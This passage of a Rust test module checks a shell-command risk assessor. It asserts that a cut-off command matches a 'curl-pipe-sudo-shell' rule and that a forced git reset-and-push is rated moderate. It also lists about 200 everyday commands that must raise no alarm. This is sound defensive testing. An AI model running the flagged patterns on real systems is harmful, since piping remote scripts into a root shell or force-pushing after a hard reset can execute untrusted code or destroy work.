        assert_eq!(a.rule_ids, vec!["curl-pipe-sudo-shell"]);
    }

    #[test]
    fn several_families_add_up() {
        let a = assess("git reset --hard && git push --force");
        assert_eq!(a.level, RiskLevel::Moderate);
        assert_eq!(a.warnings.len(), 2);
    }

    /// Everyday commands: none may raise a warning.
    pub(crate) const EVERYDAY: &[&str] = &[
        "ls",
        "ls -la",
        "ll",
        "cd ..",
        "cd ~/projects",
        "pwd",
        "clear",
        "exit",
        "history",
        "history | grep ssh",
        "git status",
        "git diff",
        "git diff --staged",
        "git add .",
        "git add -p",
        "git commit -m \"fix: handle empty input\"",
        "git commit --amend --no-edit",
        "git push",
        "git push origin main",
        "git push -u origin feature/login",
        "git push --force-with-lease",
        "git pull --rebase",
        "git fetch --all --prune",
        "git log --oneline --graph",
        "git checkout -b feature",
        "git checkout main",
        "git switch main",
        "git stash",
        "git stash pop",
        "git rebase -i HEAD~3",
        "git merge main",
        "git branch",
        "git branch -d merged-feature",
        "git tag v1.0.0",
        "git clean -n",
        "git reset --soft HEAD~1",
        "git restore --staged file.rs",
        "git rm --cached secrets.txt",
        "git remote -v",
        "cargo build",
        "cargo build --release",
        "cargo test",
        "cargo run -- --help",
        "cargo clippy --all-targets",
        "cargo fmt",
        "cargo install ripgrep",
        "cargo add serde --features derive",
        "rustup update",
        "npm install",
        "npm ci",
        "npm run dev",
        "npm test",
        "yarn",
        "pnpm install",
        "node index.js",
        "npx tsc --noEmit",
        "python3 script.py",
        "python -m venv .venv",
        "source .venv/bin/activate",
        "pip install -r requirements.txt",
        "pytest -x",
        "go build ./...",
        "go test ./...",
        "make",
        "make test",
        "docker ps",
        "docker ps -a",
        "docker build -t app .",
        "docker run -it --rm ubuntu bash",
        "docker compose up -d",
        "docker compose down",
        "docker logs -f web",
        "docker system df",
        "kubectl get pods",
        "kubectl describe pod web-1",
        "kubectl logs -f deploy/web",
        "kubectl apply -f deploy.yaml",
        "kubectl config use-context dev",
        "terraform init",
        "terraform plan",
        "terraform apply",
        "vim src/main.rs",
        "nano notes.txt",
        "code .",
        "cat README.md",
        "less /var/log/syslog",
        "head -n 20 data.csv",
        "tail -f app.log",
        "grep -rn TODO src",
        "rg 'fn main'",
        "find . -name '*.rs'",
        "fd main",
        "echo hello",
        "mkdir -p a/b/c",
        "touch file.txt",
        "cp a.txt b.txt",
        "cp -r src backup",
        "mv old.txt new.txt",
        "rm file.txt",
        "rm -f *.log",
        "rmdir empty",
        "chmod +x script.sh",
        "chmod 644 file",
        "chmod 755 bin/tool",
        "chmod -R u+w build",
        "chown me:me file",
        "ssh user@host",
        "scp file host:/tmp/",
        "rsync -av src/ dst/",
        "curl https://example.com",
        "curl -s https://api.example.com/v1 | jq .",
        "curl -s https://api.example.com | python3 -m json.tool",
        "curl -fsSL https://x.io/install.sh -o install.sh",
        "wget https://example.com/file.tar.gz",
        "tar -xzf file.tar.gz",
        "unzip archive.zip",
        "ps aux | grep node",
        "top",
        "htop",
        "kill 1234",
        "kill -9 4242",
        "pkill -f server",
        "df -h",
        "du -sh *",
        "free -m",
        "uname -a",
        "whoami",
        "which python3",
        "man ls",
        "sudo apt update",
        "sudo apt install -y curl",
        "brew install jq",
        "systemctl status nginx",
        "sudo systemctl restart nginx",
        "journalctl -u nginx -f",
        "ping -c 3 example.com",
        "dig example.com",
        "env | grep PATH",
        "export PATH=$PATH:~/bin",
        "alias ll='ls -la'",
        "tmux attach -t main",
        "ssh-keygen -t ed25519",
        "gpg --list-keys",
        "date",
        "sort names.txt | uniq -c",
        "wc -l file",
        "diff a.txt b.txt",
        "sed -i 's/foo/bar/g' file",
        "awk '{print $1}' access.log",
        "ls | xargs echo",
        "psql -c 'select 1'",
        "sqlite3 app.db '.tables'",
        "redis-cli ping",
        "mysql -u root -p",
        "dd if=/dev/zero of=test.img bs=1M count=10",
        "sudo fdisk -l",
        "sudo fdisk -l /dev/sda",
        "lsblk",
        "mount",
        "gh pr create --fill",
        "gh repo clone me/project",
        "shellcheck script.sh",
        "sha256sum file.iso",
        "openssl rand -hex 16",
        "jq '.items[]' data.json",
        "watch -n 1 kubectl get pods",
        "time cargo build",
        "nohup ./server &",
        "exec zsh",
        "sh ./configure",
        "bash build.sh",
        "eval \"$(ssh-agent -s)\"",
        "eval \"$(starship init zsh)\"",
        "source ~/.zshrc",
        "echo $SHELL > /tmp/shell.txt",
        "cat ~/.bashrc",
        "echo 'alias g=git' >> ~/.zshrc",
        "systemctl status sshd",
        "crontab -l",
        "docker rm web",
        "docker image ls",
        "kubectl get ns",
        "find . -type f -name '*.tmp' -print",
        "truncate -s 10M disk.img",
        "npm run publish-docs",
        "delete-me.sh",
    ];

    #[test]
    fn everyday_commands_are_safe() {
        assert!(EVERYDAY.len() >= 100, "at least 100 everyday commands");
        let alarms: Vec<_> = EVERYDAY
            .iter()
            .filter_map(|cmd| {
                let a = assess(cmd);
                (a.level != RiskLevel::Safe).then(|| format!("{cmd:?} -> {:?}", a.rule_ids))
            })
            .collect();
        assert!(alarms.is_empty(), "false alarms:\n{}", alarms.join("\n"));
    }
}
